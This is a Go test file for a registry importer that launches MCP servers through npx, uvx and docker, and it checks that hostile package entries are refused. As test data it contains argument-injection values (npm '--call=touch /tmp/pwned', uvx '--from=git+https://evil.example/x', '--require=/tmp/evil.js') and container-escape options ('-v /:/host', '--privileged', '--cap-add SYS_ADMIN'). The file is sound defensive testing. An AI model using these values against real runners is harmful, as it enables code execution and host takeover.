package registry

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mcpdrill/mcpdrill/scan"
	"github.com/mcpdrill/mcpdrill/studies"
)

// registryDoc is a list response of one server with one package.
func registryDoc(t *testing.T, pkg map[string]any) []byte {
	t.Helper()
	b, err := json.Marshal(map[string]any{"servers": []any{map[string]any{"server": map[string]any{
		"name": "io.github.evil/srv", "version": "1.0.0", "packages": []any{pkg}}}}})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func importOne(t *testing.T, pkg map[string]any, o Options) (studies.Entry, *Result) {
	t.Helper()
	res, err := Import(registryDoc(t, pkg), o)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Servers) != 1 {
		t.Fatalf("%d rows", len(res.Servers))
	}
	return res.Servers[0], res
}

func positional(vals ...string) []any {
	var out []any
	for _, v := range vals {
		out = append(out, map[string]any{"type": "positional", "value": v})
	}
	return out
}

// TestRegistryTextIsData: an identifier or version outside its registry's
// grammar is an excluded row without a package, whatever it was meant to
// do to the runner (F6).
func TestRegistryTextIsData(t *testing.T) {
	for _, tc := range []struct {
		name                     string
		typ, identifier, version string
		hint                     string
	}{
		{"npm --call", "npm", "--call=touch /tmp/pwned #", "1.0.0", ""},
		{"npm -c", "npm", "-c", "1.0.0", ""},
		{"npm git url", "npm", "git+https://evil.example/x.git", "1.0.0", ""},
		{"npm uppercase", "npm", "Evil", "1.0.0", ""},
		{"npm range", "npm", "left-pad", "^1.0.0", ""},
		{"npm tag", "npm", "left-pad", "latest", ""},
		{"npm version flag", "npm", "left-pad", "1.0.0 --call=id", ""},
		{"npm empty version", "npm", "left-pad", "", ""},
		{"pypi --from", "pypi", "--from=git+https://evil.example/x", "1.0", ""},
		{"pypi url", "pypi", "https://evil.example/x.whl", "1.0", ""},
		{"pypi version range", "pypi", "x", ">=1.0", ""},
		{"pypi leading dash", "pypi", "-x", "1.0", ""},
		{"oci flag", "oci", "--privileged", "", "docker"},
		{"oci uppercase path", "oci", "Evil/Image", "1", "docker"},
		{"oci space", "oci", "alpine sh", "", "docker"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e, _ := importOne(t, map[string]any{"registryType": tc.typ, "identifier": tc.identifier, "version": tc.version, "runtimeHint": tc.hint}, Options{})
			if !strings.HasPrefix(e.Excluded, "registry text refused") || e.Package != "" {
				t.Fatalf("row %+v: want excluded, no package", e)
			}
			for _, a := range e.Args {
				if strings.Contains(a, tc.identifier) {
					t.Errorf("args %q hold the identifier", e.Args)
				}
			}
		})
	}
}

// TestRunnerReadsPackageAsData: the package follows "--" (npx, docker)
// or is the value of uvx's own --from, so it cannot be an option.
func TestRunnerReadsPackageAsData(t *testing.T) {
	for typ, want := range map[string]string{
		"npm":  "-y -- left-pad@1.3.0",
		"pypi": "--from left-pad==1.3.0 left-pad",
		"oci":  "run -i --rm -- ghcr.io/a/left-pad:1.3.0",
	} {
		id := map[string]string{"oci": "ghcr.io/a/left-pad"}[typ]
		if id == "" {
			id = "left-pad"
		}
		e, _ := importOne(t, map[string]any{"registryType": typ, "identifier": id, "version": "1.3.0"}, Options{})
		if got := strings.Join(e.Args, " "); got != want || e.Excluded != "" {
			t.Errorf("%s: args %q (excluded %q), want %q", typ, got, e.Excluded, want)
		}
	}
}

// TestRuntimeArgumentsNpxUvx: a runner option from the registry that the
// import does not know excludes the row (F6: uvx --from=git+…, npx --call).
func TestRuntimeArgumentsNpxUvx(t *testing.T) {
	for _, tc := range []struct {
		typ  string
		args []any
		ok   string // the args when accepted; "" when the row is excluded
	}{
		{"pypi", positional("--from=git+https://evil.example/x"), ""},
		{"pypi", positional("--from", "git+https://evil.example/x"), ""},
		{"pypi", positional("--with", "evil"), ""},
		{"pypi", positional("--index-url", "https://evil.example/simple"), ""},
		{"pypi", []any{map[string]any{"type": "named", "name": "--from", "value": "git+https://evil.example/x"}}, ""},
		{"pypi", positional("--python", "3.12"), "--python 3.12 --from x==1.0.0 x"},
		{"pypi", positional("--python=3.12"), "--python 3.12 --from x==1.0.0 x"},
		{"pypi", positional("--python", "/usr/bin/evil"), ""},
		{"npm", positional("--call=touch /tmp/pwned"), ""},
		{"npm", positional("-c", "id"), ""},
		{"npm", positional("--registry=https://evil.example/"), ""},
		{"npm", positional("--package=evil"), ""},
		{"npm", positional("--userconfig=/tmp/x"), ""},
		{"npm", []any{map[string]any{"type": "named", "name": "--node-options", "value": "--require=/tmp/evil.js"}}, ""},
		{"npm", positional("-y"), "-y -- x@1.0.0"},
		{"npm", []any{map[string]any{"type": "named", "name": "--node-options", "value": "--max-old-space-size=512"}}, "-y --node-options=--max-old-space-size=512 -- x@1.0.0"},
	} {
		e, _ := importOne(t, map[string]any{"registryType": tc.typ, "identifier": "x", "version": "1.0.0", "runtimeArguments": tc.args}, Options{})
		got := strings.Join(e.Args, " ")
		switch {
		case tc.ok == "" && !strings.Contains(e.Excluded, "runtime argument"):
			t.Errorf("%s %v: not excluded (args %q)", tc.typ, tc.args, got)
		case tc.ok != "" && (e.Excluded != "" || got != tc.ok):
			t.Errorf("%s %v: args %q excluded %q, want %q", tc.typ, tc.args, got, e.Excluded, tc.ok)
		}
	}
}

// TestDockerReach: options that widen a container's reach are dropped in
// every spelling, and listed; --allow-container-reach keeps them; an
// option the import does not know excludes the row (F6).
func TestDockerReach(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []any
		pass string // the runtime options passed by default
		wide string // the options dropped
	}{
		{"volume and privileged", positional("-v", "/:/host", "--privileged"), "", "-v /:/host --privileged"},
		{"equals forms", positional("--volume=/:/host", "--privileged=true", "--network=host"), "", "--volume /:/host --privileged --network host"},
		{"bundled short", positional("-itv", "/:/host"), "-i -t", "-v /:/host"},
		{"bundled short, value attached", positional("-iv/:/host"), "-i", "-v /:/host"},
		{"named", []any{map[string]any{"type": "named", "name": "--mount", "value": "type=bind,src=/,dst=/h"}}, "", "--mount type=bind,src=/,dst=/h"},
		{"namespaces", positional("--pid", "host", "--ipc=host", "--userns=host", "--uts", "host", "--cgroupns=host"), "", "--pid host --ipc host --userns host --uts host --cgroupns host"},
		{"confinement", positional("--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined", "--device=/dev/sda", "--gpus", "all"), "",
			"--cap-add SYS_ADMIN --security-opt seccomp=unconfined --device /dev/sda --gpus all"},
		{"host files and ports", positional("--env-file", "/root/.env", "-p", "0.0.0.0:80:80", "-P", "--volumes-from", "other"), "",
			"--env-file /root/.env -p 0.0.0.0:80:80 -P --volumes-from other"},
		{"network container", positional("--net", "container:db"), "", "--net container:db"},
		{"safe", positional("--init", "-e", "A=1", "--network", "none", "--memory=256m"), "--init -e A=1 --network none --memory 256m", ""},
		{"privileged off", positional("--privileged=false"), "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			pkg := map[string]any{"registryType": "oci", "identifier": "ghcr.io/a/b:1", "runtimeArguments": tc.args}
			e, res := importOne(t, pkg, Options{})
			want := strings.TrimSpace("run -i --rm " + tc.pass + " -- ghcr.io/a/b:1")
			if got := strings.Join(e.Args, " "); got != strings.Join(strings.Fields(want), " ") || e.Excluded != "" {
				t.Errorf("args %q excluded %q, want %q", got, e.Excluded, want)
			}
			var dropped []string
			for _, d := range res.Dropped {
				dropped = append(dropped, d.Args...)
			}
			if strings.Join(dropped, " ") != tc.wide {
				t.Errorf("dropped %q, want %q", dropped, tc.wide)
			}
			// With the user's opt-in the options are kept, and still listed.
			e, res = importOne(t, pkg, Options{ContainerReach: true})
			if tc.wide != "" && (!strings.Contains(strings.Join(e.Args, " "), tc.wide) || !res.Kept || len(res.Dropped) != 1) {
				t.Errorf("--allow-container-reach: args %q, listed %v", e.Args, res.Dropped)
			}
		})
	}
	for _, args := range [][]any{
		positional("--badflag"), positional("alpine"), positional("-Z"), positional("-v"),
		positional("--rm=/x"), positional("-itx"),
	} {
		e, _ := importOne(t, map[string]any{"registryType": "oci", "identifier": "ghcr.io/a/b:1", "runtimeArguments": args}, Options{})
		if !strings.Contains(e.Excluded, "runtime argument") {
			t.Errorf("%v: not excluded: %q", args, e.Args)
		}
	}
}

// TestNpmCallNeverRuns is F6 end to end: a registry document whose npm
// identifier is --call=CMD, imported and run by the study, runs nothing.
func TestNpmCallNeverRuns(t *testing.T) {
	if testing.Short() {
		t.Skip("starts the study runner")
	}
	if _, err := exec.LookPath("npx"); err != nil {
		t.Skip("npx not found")
	}
	dir := t.TempDir()
	marker := filepath.Join(dir, "pwned")
	res, err := Import(registryDoc(t, map[string]any{"registryType": "npm", "identifier": "--call=touch " + marker + " #", "version": "1.0.0"}), Options{})
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "servers.json")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := studies.WriteServers(f, res.Servers); err != nil {
		t.Fatal(err)
	}
	f.Close()
	data, _ := os.ReadFile(path)
	spec, err := studies.ParseSpec(data, dir)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	out, err := studies.Run(ctx, spec, studies.Options{Scan: scan.Run, Jobs: 1, Deadline: 20 * time.Second, TempDir: dir})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the registry identifier ran a command")
	}
	if r := out.Servers[0]; r.Status != studies.StatusSkipped || !slices.ContainsFunc([]string{r.Reason}, func(s string) bool { return strings.Contains(s, "registry text refused") }) {
		t.Errorf("row %s: %q", r.Status, r.Reason)
	}
}

// FuzzDockerRuntime: whatever the tokens, an option that widens a
// container's reach never passes without the opt-in, and nothing passes
// that is not a known option or an option's value.
func FuzzDockerRuntime(f *testing.F) {
	for _, s := range []string{"-v /:/host --privileged", "-itv /:/host", "--network=host --init", "-e A=1 --rm", "--privileged=false", "-iv/:/h"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		tokens := strings.Fields(s)
		pass, _, err := dockerRuntime(tokens, false)
		if err != nil {
			return
		}
		for i := 0; i < len(pass); i++ {
			f, ok := dockerFlags[pass[i]]
			if !ok {
				t.Fatalf("%q passed %q, not an option", tokens, pass[i])
			}
			val := ""
			if f.value {
				i++
				val = pass[i]
			}
			if f.widens(val) {
				t.Fatalf("%q passed %s %q, which widens the container's reach", tokens, pass[i-btoi(f.value)], val)
			}
		}
	})
}

func btoi(b bool) int {
	if b {
		return 1
	}
	return 0
}
